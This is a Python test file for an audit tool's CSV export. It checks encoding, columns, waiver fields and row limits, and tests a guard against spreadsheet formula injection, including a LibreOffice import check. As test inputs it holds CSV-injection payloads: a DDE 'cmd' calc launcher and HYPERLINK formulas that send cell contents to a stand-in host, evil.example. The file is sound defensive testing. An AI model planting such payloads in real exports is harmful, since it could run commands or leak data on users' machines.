"""CSV: RFC 4180 records in UTF-8 with a byte order mark, the documented columns, waivers and
roll-ups, no cell a spreadsheet would run as a formula, and LibreOffice reading it."""

from __future__ import annotations

import csv as std_csv
import dataclasses
import datetime as dt
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from smaudit.assessment import waivers
from smaudit.cli.app import cli
from smaudit.formats.findings import csv
from smaudit.model import Report, Status
from tests.conftest import AS_OF as AS_OF_TEXT
from tests.conftest import ROOT, SAMPLES
from tests.formats.conftest import AS_OF, PLACES, a_waiver, render

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
AGENCY = "Département des Exemples — Zoë, 日本"


def _rows(text: str) -> list[dict[str, str]]:
    return list(std_csv.DictReader(io.StringIO(text.removeprefix(csv.BOM), newline="")))


def _bytes(report: Report) -> bytes:
    return b"".join(csv.iter_render(report))


def _named(report: Report, agency: str) -> Report:
    inventory = report.inventory
    renamed = dataclasses.replace(inventory.agency, name=agency)
    return dataclasses.replace(report, inventory=dataclasses.replace(inventory, agency=renamed))


def test_header_rows_and_crlf(report: Report) -> None:
    text = render(report, "csv")
    assert text.startswith(csv.BOM + ",".join(csv.HEADER) + "\r\n") and text.endswith("\r\n")
    rows = _rows(text)
    assert len(rows) == len(report.without_passes().findings)
    for row in rows:
        key = (row["control_id"], row["account_id"])
        assert (row["file"], int(row["line"]), int(row["column"])) == PLACES[key]
    assert rows[0]["nist_800_53"] == "ia-2.1; ia-2.2; ia-5"


def test_utf_8_with_one_byte_order_mark_as_spreadsheets_read_it(report: Report) -> None:
    many = _named(dataclasses.replace(report, findings=report.findings * 200), AGENCY)
    data = _bytes(many)
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    text = data.decode("utf-8-sig")  # what a reader that honours the mark gets
    (first, *_), *_ = std_csv.reader(io.StringIO(text, newline=""))
    assert first == "control_id"
    assert {row["agency"] for row in _rows(text)} == {AGENCY}
    assert AGENCY.encode("utf-8") in data


def test_the_columns_are_documented() -> None:
    docs = (ROOT / "docs" / "formats.md").read_text("utf-8")
    section = docs.split("## csv:", 1)[1].split("\n## ", 1)[0]
    for column in csv.HEADER:
        assert f"| `{column}` |" in section, column


def test_listed_passes_are_rows_too(report: Report) -> None:
    rows = _rows(csv.render(report))
    assert {r["status"] for r in rows} == {s.value for s in Status if s is not Status.WAIVED}


def test_every_row_says_which_run_agency_and_inventory(report: Report) -> None:
    rows = _rows(render(report, "csv"))
    inventory = "inventory/agency.yaml,inventory/regional.yaml"
    assert {(r["agency"], r["inventory"], r["profile"], r["as_of"]) for r in rows} == {
        ("Department of Examples", inventory, "modern", AS_OF_TEXT)
    }
    assert {(r["tier"], r["office"]) for r in rows} == {("", "")}  # the fixture states neither
    severities = {c.id: c.severity.value for c in report.controls}
    assert all(r["control_severity"] == severities[r["control_id"]] for r in rows)


def test_the_same_inventory_date_and_profile_give_the_same_bytes(report: Report) -> None:
    later = dataclasses.replace(
        report.run, id="another-run", started_at=dt.datetime(2026, 11, 21, 9, tzinfo=dt.UTC)
    )
    assert _bytes(dataclasses.replace(report, run=later)) == _bytes(report)


def test_waived_rows_say_which_waiver(report: Report) -> None:
    waiver = a_waiver("W-1", "hq-x", dt.date(2027, 1, 31))
    rows = _rows(render(waivers.apply(report, [waiver], AS_OF), "csv"))
    waived = [r for r in rows if r["waiver_id"]]
    assert [
        (r["status"], r["original_status"], r["waiver_kind"], r["waiver_expires_on"])
        for r in waived
    ] == [("waived", "fail", "risk_acceptance", "2027-01-31")]
    assert (waived[0]["waiver_ticket"], waived[0]["waiver_expired"]) == ("SEC-12", "false")
    assert waived[0]["waiver_justification"] == waiver.justification
    assert all(r["waiver_expired"] == r["original_status"] == "" for r in rows if r not in waived)
    lapsed = a_waiver("W-1", "hq-x", dt.date(2026, 11, 19))
    (row,) = [
        r for r in _rows(render(waivers.apply(report, [lapsed], AS_OF), "csv")) if r["waiver_id"]
    ]
    assert (row["status"], row["waiver_id"], row["waiver_expired"]) == ("fail", "W-1", "true")


def test_tier_and_office_come_from_the_inventory() -> None:
    args = ["check", str(SAMPLES / "agency.yaml"), "--as-of", AS_OF_TEXT, "--format", "csv"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1, result.output
    rows = _rows(result.stdout)
    assert rows and {r["agency"] for r in rows} == {"Department of Coastal Resilience"}
    assert {r["tier"] for r in rows} >= {"high-impact", "standard"}
    assert "Office of Public Affairs" in {r["office"] for r in rows}


@pytest.mark.parametrize("start", DANGEROUS)
def test_no_cell_starts_like_a_formula(start: str, report: Report) -> None:
    failure = next(f for f in report.findings if f.status is Status.FAIL)
    hostile = dataclasses.replace(
        failure,
        account_id=f"{start}cmd|' /C calc'!A0",
        platform=f"{start}x",
        message=f'{start}HYPERLINK("http://evil.example/?"&A1,"click")',
    )
    one = _named(dataclasses.replace(report, findings=(hostile,)), f"{start}SUM(1)")
    rows = list(std_csv.reader(io.StringIO(csv.render(one).removeprefix(csv.BOM), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert f"'{start}HYPERLINK" in rows[1][csv.HEADER.index("message")]
    assert rows[1][csv.HEADER.index("agency")] == f"'{start}SUM(1)"


def test_quotes_and_newlines_round_trip(report: Report) -> None:
    failure = next(f for f in report.findings if f.status is Status.FAIL)
    awkward = dataclasses.replace(failure, message='says "hi",\nthen leaves')
    (row,) = _rows(csv.render(dataclasses.replace(report, findings=(awkward,))))
    assert row["message"] == 'says "hi",\nthen leaves'


# LibreOffice's CSV filter options (help.libreoffice.org, "CSV Filter Options"): comma, double
# quote, UTF-8 (76), from line 1, no column formats, English (1033), then token 13: evaluate
# formulas, on, so that a cell the guard missed would become a formula.
LIBREOFFICE_UTF8 = "CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true"
_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"


def _soffice() -> str:
    found = shutil.which("soffice")
    if found is None:
        if os.environ.get("SMAUDIT_EXPECT_LIBREOFFICE"):
            raise AssertionError("CI installs LibreOffice (.ci/run) but soffice is not on PATH")
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    return found


def _libreoffice_cells(tmp_path: Path, data: bytes) -> list[list[tuple[str, str | None]]]:
    """Each row's cells as LibreOffice Calc imported them: (text, formula or None)."""
    source = tmp_path / "findings.csv"
    source.write_bytes(data)
    args = [_soffice(), "--headless", f"--infilter={LIBREOFFICE_UTF8}", "--convert-to", "ods"]
    env = {"PATH": os.environ.get("PATH", ""), "HOME": str(tmp_path)}  # a profile of its own
    subprocess.run(
        [*args, "--outdir", str(tmp_path), str(source)], env=env, check=True, timeout=300
    )
    with zipfile.ZipFile(tmp_path / "findings.ods") as ods:
        content = ET.fromstring(ods.read("content.xml"))
    rows = []
    for row in content.iter(f"{{{_TABLE}}}table-row"):
        cells = []
        for cell in row.iter(f"{{{_TABLE}}}table-cell"):
            repeat = int(cell.get(f"{{{_TABLE}}}number-columns-repeated", "1"))
            text = "\n".join("".join(p.itertext()) for p in cell)
            cells += [(text, cell.get(f"{{{_TABLE}}}formula"))] * min(repeat, len(csv.HEADER))
        rows.append(cells[: len(csv.HEADER)])
    return rows


def test_libreoffice_reads_the_cells_as_written(report: Report, tmp_path: Path) -> None:
    failure = next(f for f in report.findings if f.status is Status.FAIL)
    hostile = dataclasses.replace(failure, message='=HYPERLINK("http://evil.example/","x")\nok')
    one = _named(dataclasses.replace(report, findings=(hostile, *report.findings)), AGENCY)
    data = _bytes(one)
    cells = _libreoffice_cells(tmp_path, data)
    expected = list(std_csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [[text for text, _ in row] for row in cells] == expected  # the mark is not a cell's
    assert not [formula for row in cells for _, formula in row if formula]
    assert cells[1][csv.HEADER.index("agency")][0] == AGENCY


SPREADSHEET_ROWS = 1_048_576
"""The most rows a sheet holds in Excel and in LibreOffice Calc (7.4 on), header included."""
SPREADSHEET_CELL = 32_767
"""The most characters Excel keeps in a cell (it cuts the rest)."""


@pytest.mark.parametrize("passes", [False, True], ids=["default", "include-passed"])
def test_10000_accounts_fit_one_sheet_and_every_finding_is_a_row(
    scale_report: Report, passes: bool
) -> None:
    shown = scale_report if passes else scale_report.without_passes()
    data = _bytes(shown)
    rows = list(std_csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(shown.findings) + 1 <= SPREADSHEET_ROWS
    assert max(len(cell) for row in rows for cell in row) <= SPREADSHEET_CELL
    fingerprints = [row[csv.HEADER.index("fingerprint")] for row in rows[1:]]
    assert fingerprints == [f.fingerprint for f in shown.findings]


def test_libreoffice_reads_the_sample(tmp_path: Path) -> None:
    args = ["check", str(SAMPLES / "agency.yaml"), "--as-of", AS_OF_TEXT, "--format", "csv"]
    data = CliRunner().invoke(cli, args).stdout_bytes
    cells = _libreoffice_cells(tmp_path, data)
    expected = list(std_csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(expected) > 1 and [[text for text, _ in row] for row in cells] == expected
    assert not [formula for row in cells for _, formula in row if formula]
